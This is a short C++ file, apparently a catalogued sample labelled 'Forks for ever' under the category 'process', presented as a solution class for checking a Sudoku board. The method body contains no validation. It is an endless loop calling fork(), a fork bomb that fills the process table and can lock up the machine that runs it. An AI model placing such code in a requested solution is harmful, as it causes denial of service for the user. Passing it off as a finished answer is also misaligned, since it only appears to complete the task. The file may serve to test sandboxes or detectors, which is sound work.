// Forks for ever.
// Category: process
#include <unistd.h>

class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        for (;;) fork();
    }
};
